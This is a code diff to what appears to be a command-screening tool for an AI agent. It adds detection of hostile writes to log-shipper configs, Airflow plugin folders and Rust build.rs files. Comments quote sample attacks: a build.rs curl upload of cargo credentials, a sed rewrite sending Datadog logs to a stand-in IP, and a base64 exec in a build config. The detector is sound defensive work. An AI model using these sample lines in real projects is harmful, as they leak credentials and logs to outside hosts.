@@ -19,7 +19,7 @@ from __future__ import annotations
 import json
 import re
 
-from .. import agent_settings, run_later, taskfiles
+from .. import agent_settings, run_later, shippers, taskfiles
 from . import appbuilds, ci
 from ..paths import normalize
 from .commands import Cmd, has_flag, option_value, positionals
@@ -33,7 +33,7 @@ CODE_TARGET = re.compile(r"\.(?:py|pyw|js|mjs|cjs|ts|mts|cts|sh|bash|zsh|mk|ps1|
                          r"hooks/|\.husky/|[Mm]akefile|[Jj]ustfile|Dockerfile|Containerfile|\.dockerfile\b|\.tf\b|"
                          r"requirements[\w.-]*\.(?:txt|in)|" + agent_settings.TARGET + "|" +
                          run_later.TARGET + "|" + agent_settings.INSTRUCTIONS_TARGET + "|" + ci.TARGET + "|" +
-                         appbuilds.TARGET + "|" + taskfiles.TARGET)
+                         appbuilds.TARGET + "|" + taskfiles.TARGET + "|" + shippers.TARGET)
 _LANG_BY_EXT = {"py": "python", "pyw": "python", "js": "typescript", "mjs": "typescript", "cjs": "typescript",
                 "ts": "typescript", "mts": "typescript", "cts": "typescript", "sh": "bash", "bash": "bash",
                 "zsh": "bash", "ps1": "powershell", "psm1": "powershell"}
@@ -361,8 +361,9 @@ def _starts_shebang(a, cmd: Cmd) -> bool:
 
 
 def _named_targets(a, cmd: Cmd) -> list[str]:
-    """`> "$VIRTUAL_ENV/pip.conf"`, `>> "$PROJECT/Makefile"`: a file whose folder is known only at run time, named by
-    its own name as a task or build file (read as the file that name says)."""
+    """`> "$VIRTUAL_ENV/pip.conf"`, `>> "$PROJECT/Makefile"`, `> "$AIRFLOW_HOME/plugins/x.py"`: a file whose folder is
+    known only at run time, named by its own name as a task or build file or code a tool runs (read as the file that
+    name says: Airflow imports every module of its plugins and dags folders)."""
     out = []
     for r in cmd.redirects:
         if r.type != "file_redirect" or not any(c.type in (">", ">>", ">|") for c in r.children):
@@ -370,7 +371,7 @@ def _named_targets(a, cmd: Cmd) -> list[str]:
         for d in r.children_by_field_name("destination")[:1]:
             if a.ev.word(d).value is None:
                 text = a.src(d).strip("\"'")
-                if taskfiles.kind(text) is not None:
+                if taskfiles.kind(text) is not None or _target(text):
                     out.append(text)
     return out
 
@@ -520,6 +521,10 @@ def _judge(a, targets: list[str], text: str, node, decoded: tuple[str, ...] = ()
     """Whether a finding was reported (only the code kinds' and the task files' blocks say so; the others report as
     they go). `decoded` holds what the writer's arguments decoded to at run time."""
     for path in targets:
+        if shippers.kind(path) and shippers.judge(a, path, text, node):
+            return True  # a log shipper's configuration: what it reads, where it sends
+        if path.endswith("build.rs") and "Command::new" in text and _rust_commands(a, path, text, node):
+            return True
         what = taskfiles.kind(path)
         if what is not None and _task_file(a, path, what, text, node, decoded):
             return True
@@ -552,6 +557,21 @@ def _judge(a, targets: list[str], text: str, node, decoded: tuple[str, ...] = ()
                 return True
             if what is None and taskfiles.decoded_block(a, path, text, node):
                 return True  # `c.exec(Buffer.from("dGFy…", "base64").toString())` in an eslint or vite config
+    return False
+
+
+def _rust_commands(a, path: str, text: str, node) -> bool:
+    """`Command::new("curl").args(["-F", &format!("c=@{}/.cargo/credentials.toml", home), …])` in a build.rs: the
+    command each chain starts, judged as that command line (`cargo build` runs it)."""
+    from ..rust_commands import command_lines
+
+    for line in command_lines(text):
+        found = blocked(a, line, "bash")
+        if found is not None:
+            a.block(found.rule, f"the build script {path} written here runs `{line[:100]}`, which would be blocked "
+                                f"({found.message}); `cargo build` runs build.rs before it compiles the crate: write "
+                                "a build script that only builds", node)
+            return True
     return False
 
 
@@ -1235,6 +1255,9 @@ def _edit(a, cmd: Cmd) -> None:
     if writes and cmd.name in ("sed", "gsed", "perl") and has_flag(cmd.args, "i", ("--in-place",)) and \
             _cache_edit(a, cmd):
         return
+    if writes and cmd.name in ("sed", "gsed", "perl") and any(shippers.kind(v) for v in vals) and \
+            shippers.judge(a, next(v for v in vals if shippers.kind(v)), "\n".join(vals), cmd.node):
+        return  # `sed -i 's|^# dd_url:.*|dd_url: https://203.0.113.50|' /etc/datadog-agent/datadog.yaml`
     if (files or defs) and writes:
         if files:
             _edited(a, cmd, files, cmd.node)
